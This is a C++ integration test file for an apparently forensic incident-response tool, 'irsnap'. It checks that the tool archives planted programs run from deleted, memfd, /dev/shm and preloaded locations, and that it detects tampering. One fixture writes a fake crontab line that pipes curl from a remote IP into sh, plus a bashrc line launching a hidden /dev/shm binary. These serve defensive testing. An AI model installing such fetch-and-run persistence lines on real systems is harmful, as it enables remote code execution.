// SPDX-License-Identifier: Apache-2.0
// Specimens end to end with the real binary: programs the test plants (deleted from /tmp, run
// from a memfd, from /dev/shm, a preloaded library) come back in the bundle's encrypted archive
// with the exact digest of the original, readable by unzip, 7z and Python; a package binary is
// not copied; budgets, FIFOs, devices and sparse files are handled; the tar stream carries the
// same; and `irsnap extract` refuses a tampered member.
#include <gtest/gtest.h>

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <random>
#include <sstream>
#include <thread>

#include "../unit/fixture_util.hpp"
#include "irsnap/hash.hpp"
#include "run_util.hpp"

namespace irsnap::test {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

/// A copy of /bin/sleep with unique bytes appended (ELF ignores trailing data), so its digest
/// belongs to this test alone.
std::string plant_program(const fs::path& path) {
    std::string program = read_text_file("/bin/sleep");
    std::random_device rd;
    program += "irsnap-specimen-" + std::to_string(rd()) + std::to_string(rd());
    std::ofstream(path, std::ios::binary) << program;
    fs::permissions(path, fs::perms::owner_all);
    return sha256_hex(program);
}

bool wait_for_exe(pid_t pid, const std::string& needle) {
    for (int i = 0; i < 500; ++i) {
        std::error_code ec;
        auto target = fs::read_symlink("/proc/" + std::to_string(pid) + "/exe", ec);
        if (!ec && target.string().find(needle) != std::string::npos) return true;
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    return false;
}

fs::path collect(const fs::path& out, std::vector<std::string> extra = {}) {
    std::vector<std::string> argv{irsnap_binary(), "collect", "-o", out.string(), "-q"};
    if (std::find(extra.begin(), extra.end(), "--collectors") == extra.end()) {
        argv.insert(argv.end(), {"--collectors", "samples"});
    }
    argv.insert(argv.end(), extra.begin(), extra.end());
    auto run = run_command(argv);
    EXPECT_TRUE(run.exit_code == 0 || run.exit_code == 1) << run.err;
    return only_bundle(out);
}

const json* specimen(const std::vector<json>& records, const std::string& sha) {
    for (const auto& r : records) {
        if (r["sha256"] == sha) return &r;
    }
    return nullptr;
}

fs::path archive_of(const fs::path& bundle, const json& record) {
    return bundle / record["archive"].get<std::string>();
}

TEST(Samples, DeletedProgramFromTmpComesBackWithItsDigestForEveryReader) {
    TempDir tmp("irsnap-it");
    const fs::path exe = tmp.path() / "dropper";
    const std::string sha = plant_program(exe);
    pid_t child = spawn({exe.string(), "30"});
    ASSERT_TRUE(wait_for_exe(child, "dropper"));
    fs::remove(exe);
    const auto bundle = collect(tmp.path() / "out");
    kill_and_reap(child);

    const auto records = read_jsonl(artifact(bundle, "samples"));
    const json* r = specimen(records, sha);
    ASSERT_NE(r, nullptr) << "the deleted program was not sampled";
    EXPECT_EQ((*r)["status"], "copied");
    EXPECT_EQ((*r)["member_sha256"], sha);
    const auto reasons = (*r)["reasons"].dump();
    EXPECT_NE(reasons.find("deleted"), std::string::npos) << reasons;
    EXPECT_NE(reasons.find("temporary_place"), std::string::npos) << reasons;
    bool exe_source = false;
    for (const auto& s : (*r)["sources"]) exe_source |= s["kind"] == "exe" && s["pid"] == child;
    EXPECT_TRUE(exe_source) << (*r)["sources"].dump();
    const fs::path zip = archive_of(bundle, *r);
    const std::string member = (*r)["member"];

    IRSNAP_NEED_TOOL(have_tool("unzip"), "unzip");
    auto unzip = run_command({"/usr/bin/unzip", "-p", "-P", "infected", zip.string(), member});
    ASSERT_EQ(unzip.exit_code, 0) << unzip.err;
    EXPECT_EQ(sha256_hex(unzip.out), sha);
    IRSNAP_NEED_TOOL(have_tool("7z"), "7z (p7zip-full)");
    auto seven = run_command({"/usr/bin/7z", "x", "-so", "-pinfected", zip.string(), member});
    ASSERT_EQ(seven.exit_code, 0) << seven.err;
    EXPECT_EQ(sha256_hex(seven.out), sha);
    IRSNAP_NEED_TOOL(have_tool("python3"), "python3");
    // Python decrypts ZipCrypto slowly (about 1 MB/s): this member is about 40 KB.
    auto py = run_command({"/usr/bin/python3", "-c",
                           "import sys,zipfile,hashlib;z=zipfile.ZipFile(sys.argv[1]);"
                           "print(hashlib.sha256(z.read(sys.argv[2],pwd=b'infected')).hexdigest())",
                           zip.string(), member});
    ASSERT_EQ(py.exit_code, 0) << py.err;
    EXPECT_EQ(py.out, sha + "\n");
}

TEST(Samples, ProgramRunFromAMemfdIsCopied) {
    std::string program = read_text_file("/bin/sleep");
    program += "irsnap-memfd-specimen-" + std::to_string(getpid());
    const std::string sha = sha256_hex(program);
    int memfd = memfd_create("irsnap-specimen", 0);
    ASSERT_GE(memfd, 0);
    ASSERT_EQ(write(memfd, program.data(), program.size()), static_cast<ssize_t>(program.size()));
    pid_t child = fork();
    ASSERT_GE(child, 0);
    if (child == 0) {
        char arg0[] = "sleep";
        char arg1[] = "30";
        char* argv[] = {arg0, arg1, nullptr};
        char* envp[] = {nullptr};
        fexecve(memfd, argv, envp);
        _exit(127);
    }
    close(memfd);
    ASSERT_TRUE(wait_for_exe(child, "memfd:irsnap-specimen"));
    TempDir tmp("irsnap-it");
    const auto bundle = collect(tmp.path() / "out");
    kill_and_reap(child);
    const auto records = read_jsonl(artifact(bundle, "samples"));
    const json* r = specimen(records, sha);
    ASSERT_NE(r, nullptr);
    EXPECT_EQ((*r)["status"], "copied");
    EXPECT_EQ((*r)["reasons"][0], "memfd");
    EXPECT_EQ((*r)["path"], "/memfd:irsnap-specimen");
}

TEST(Samples, ProgramFromDevShmAndAPreloadedLibraryAreCopiedButNotThePackageBinary) {
    const fs::path shm = "/dev/shm/irsnap-it-" + std::to_string(getpid());
    const std::string shm_sha = plant_program(shm);
    pid_t from_shm = spawn({shm.string(), "30"});
    // The preloaded library: a copy of the system's zlib with unique bytes appended (the loader
    // ignores them). Not the test's own LD_PRELOAD module: in the ASan build that one needs the
    // ASan runtime loaded first, so /bin/sleep would refuse it and map nothing.
    TempDir libdir("irsnap-it-lib");
    const fs::path lib = libdir.path() / "libpreloaded.so";
    std::string lib_bytes = read_text_file("/lib/x86_64-linux-gnu/libz.so.1");
    ASSERT_FALSE(lib_bytes.empty());
    lib_bytes += "irsnap-preload-specimen-" + std::to_string(getpid());
    std::ofstream(lib, std::ios::binary) << lib_bytes;
    const std::string lib_sha = sha256_hex(lib_bytes);
    pid_t preloaded = fork();
    ASSERT_GE(preloaded, 0);
    if (preloaded == 0) {
        const std::string env = "LD_PRELOAD=" + lib.string();
        char arg0[] = "/bin/sleep";
        char arg1[] = "30";
        char* argv[] = {arg0, arg1, nullptr};
        char* envp[] = {const_cast<char*>(env.c_str()), nullptr};
        execve("/bin/sleep", argv, envp);
        _exit(127);
    }
    pid_t plain = spawn({"/bin/sleep", "30"});
    ASSERT_TRUE(wait_for_exe(from_shm, "irsnap-it"));
    std::this_thread::sleep_for(std::chrono::milliseconds(200));  // the loader maps the library
    TempDir tmp("irsnap-it");
    const auto bundle = collect(tmp.path() / "out");
    kill_and_reap(from_shm);
    kill_and_reap(preloaded);
    kill_and_reap(plain);
    fs::remove(shm);

    const auto records = read_jsonl(artifact(bundle, "samples"));
    const json* s = specimen(records, shm_sha);
    ASSERT_NE(s, nullptr);
    EXPECT_EQ((*s)["status"], "copied");
    EXPECT_NE((*s)["reasons"].dump().find("temporary_place"), std::string::npos);
    const json* l = specimen(records, lib_sha);
    ASSERT_NE(l, nullptr) << "the LD_PRELOAD library was not sampled";
    EXPECT_EQ((*l)["reasons"][0], "preload");
    EXPECT_EQ((*l)["status"], "copied");
    // Other tests may hold sleep's bytes in a memfd (rightly sampled): look at the pid.
    for (const auto& r : records) {
        for (const auto& src : r["sources"]) {
            EXPECT_NE(src["pid"], plain) << "a package binary was sampled: " << r.dump();
        }
    }
}

TEST(Samples, BudgetFifoDeviceAndSparseFileAreRecordedNotCopied) {
    TempDir tmp("irsnap-it");
    const fs::path fifo = tmp.path() / "fifo";
    ASSERT_EQ(mkfifo(fifo.c_str(), 0600), 0);
    const fs::path sparse = tmp.path() / "sparse";
    {
        int fd = ::open(sparse.c_str(), O_CREAT | O_WRONLY, 0600);
        ASSERT_GE(fd, 0);
        ASSERT_EQ(ftruncate(fd, off_t{100} << 30), 0);  // 100 GiB, no blocks
        ::close(fd);
    }
    const fs::path small = tmp.path() / "small";
    std::ofstream(small) << "responder-named file";
    // A process holding the sparse file open in a temporary place makes it a candidate too.
    pid_t holder = spawn({"/bin/sh", "-c", "exec 3<" + sparse.string() + "; sleep 30"});
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
    const auto bundle =
        collect(tmp.path() / "out",
                {"--collect-file", fifo.string(), "--collect-file", "/dev/null", "--collect-file",
                 sparse.string(), "--collect-file", small.string(), "--max-evidence-bytes", "5"});
    kill_and_reap(holder);

    const auto records = read_jsonl(artifact(bundle, "samples"));
    std::map<std::string, std::string> status;
    for (const auto& r : records) {
        if (r["path"].is_string()) status[r["path"]] = r["status"];
    }
    EXPECT_EQ(status[fifo.string()], "not_regular");
    EXPECT_EQ(status["/dev/null"], "not_regular");
    EXPECT_EQ(status[sparse.string()], "too_large");
    EXPECT_EQ(status[small.string()], "budget") << "20 bytes do not fit a 5-byte budget";
    std::uintmax_t total = 0;
    for (const auto& e : fs::recursive_directory_iterator(bundle)) {
        if (e.is_regular_file()) total += e.file_size();
    }
    EXPECT_LT(total, 64u << 20) << "the output grew with the sparse file";
    const auto manifest = json::parse(read_text_file(bundle / "manifest.json"));
    bool noted = false;
    for (const auto& c : manifest["collectors"]) {
        if (c["name"] == "samples")
            noted = c["coverage"].dump().find("budget") != std::string::npos;
    }
    EXPECT_TRUE(noted) << "the budget refusal is not in coverage";
}

TEST(Samples, TarStreamCarriesTheArchiveAndExtractChecksEveryMember) {
    TempDir tmp("irsnap-it");
    const fs::path exe = tmp.path() / "streamed";
    const std::string sha = plant_program(exe);
    pid_t child = spawn({exe.string(), "30"});
    ASSERT_TRUE(wait_for_exe(child, "streamed"));
    fs::remove(exe);
    const fs::path tar = tmp.path() / "host.tar";
    auto run = run_redirected(
        {irsnap_binary(), "collect", "-o", "-", "-q", "--collectors", "samples"}, "", tar.string());
    kill_and_reap(child);
    ASSERT_TRUE(run.exit_code == 0 || run.exit_code == 1) << run.err;
    auto verify = run_command({irsnap_binary(), "verify", tar.string()});
    ASSERT_EQ(verify.exit_code, 0) << verify.out << verify.err;

    const fs::path into = tmp.path() / "x";
    fs::create_directories(into);
    auto extract =
        run_command({irsnap_binary(), "extract", tar.string(), "--sha256", sha, into.string()});
    ASSERT_EQ(extract.exit_code, 0) << extract.out << extract.err;
    EXPECT_EQ(file_sha256(into / "specimens" / sha), sha);
    EXPECT_EQ(fs::status(into / "specimens" / sha).permissions() & fs::perms::all,
              fs::perms::owner_read);
}

TEST(Samples, ExtractRefusesATamperedMember) {
    TempDir tmp("irsnap-it");
    const fs::path exe = tmp.path() / "tampered";
    const std::string sha = plant_program(exe);
    pid_t child = spawn({exe.string(), "30"});
    ASSERT_TRUE(wait_for_exe(child, "tampered"));
    const auto bundle = collect(tmp.path() / "out", {"--collect-file", exe.string()});
    kill_and_reap(child);
    const auto records = read_jsonl(artifact(bundle, "samples"));
    const json* r = specimen(records, sha);
    ASSERT_NE(r, nullptr);
    const fs::path zip = archive_of(bundle, *r);
    const std::string rel = (*r)["archive"];

    // Flip one byte in the middle of the member, then re-seal the manifest as a forger would,
    // so that only the per-member check can catch it.
    std::string bytes = read_text_file(zip);
    // The member's local header names it; its data (40 KB and more) starts soon after.
    const size_t header = bytes.find((*r)["member"].get<std::string>());
    ASSERT_NE(header, std::string::npos);
    bytes[header + 64 + 200] ^= 0x5a;
    fs::permissions(zip, fs::perms::owner_read | fs::perms::owner_write);
    std::ofstream(zip, std::ios::binary | std::ios::trunc) << bytes;
    auto manifest = json::parse(read_text_file(bundle / "manifest.json"));
    for (auto& a : manifest["artifacts"]) {
        if (a["path"] == rel) a["sha256"] = sha256_hex(bytes);
    }
    const std::string text = manifest.dump(2) + "\n";
    std::ofstream(bundle / "manifest.json", std::ios::trunc) << text;
    std::ofstream(bundle / "manifest.json.sha256", std::ios::trunc)
        << sha256_hex(text) << "  manifest.json\n";
    ASSERT_EQ(run_command({irsnap_binary(), "verify", bundle.string()}).exit_code, 0);

    const fs::path into = tmp.path() / "x";
    fs::create_directories(into);
    auto extract = run_command({irsnap_binary(), "extract", bundle.string(), into.string()});
    EXPECT_EQ(extract.exit_code, 5) << extract.out << extract.err;
    EXPECT_NE(extract.out.find("REFUSED"), std::string::npos) << extract.out;
    EXPECT_FALSE(fs::exists(into / "specimens" / sha)) << "a tampered member was kept";
}

TEST(Files, PlantedCrontabAndBashrcLinesAreReadableInTheCopies) {
    TempDir tmp("irsnap-it");
    const fs::path root = tmp.path() / "root";
    fs::create_directories(root / "etc");
    fs::create_directories(root / "home/alice");
    fs::create_directories(root / "root");
    std::ofstream(root / "etc/passwd") << "root:x:0:0:root:/root:/bin/bash\n"
                                          "alice:x:1000:1000::/home/alice:/bin/bash\n";
    const std::string cron = "* * * * * root curl -s http://203.0.113.9/x | sh\n";
    std::ofstream(root / "etc/crontab") << "# m h dom mon dow user command\n" << cron;
    const std::string bashrc = "alias ls='ls --color'\n(/dev/shm/.x &) 2>/dev/null\n";
    std::ofstream(root / "home/alice/.bashrc") << bashrc;
    // Neither followed nor opened: a history hidden by a link, and a FIFO.
    fs::create_symlink("/dev/null", root / "root/.bash_history");
    ASSERT_EQ(mkfifo((root / "home/alice/.zsh_history").c_str(), 0600), 0);
    const auto bundle =
        collect(tmp.path() / "out", {"--collectors", "files", "--root", root.string()});

    std::map<std::string, json> by_path;
    for (const auto& r : read_jsonl(artifact(bundle, "files"))) by_path[r["path"]] = r;
    ASSERT_TRUE(by_path.count("/etc/crontab"));
    EXPECT_EQ(by_path["/etc/crontab"]["status"], "copied");
    EXPECT_EQ(by_path["/root/.bash_history"]["status"], "not_regular");
    EXPECT_NE(by_path["/root/.bash_history"]["status_note"].dump().find("/dev/null"),
              std::string::npos);
    EXPECT_EQ(by_path["/home/alice/.zsh_history"]["status"], "not_regular");

    const fs::path into = tmp.path() / "x";
    fs::create_directories(into);
    auto extract = run_command({irsnap_binary(), "extract", bundle.string(), into.string()});
    ASSERT_EQ(extract.exit_code, 0) << extract.out << extract.err;
    EXPECT_NE(read_text_file(into / "files/etc/crontab").find(cron), std::string::npos);
    EXPECT_EQ(read_text_file(into / "files/home/alice/.bashrc"), bashrc);
}

}  // namespace
}  // namespace irsnap::test
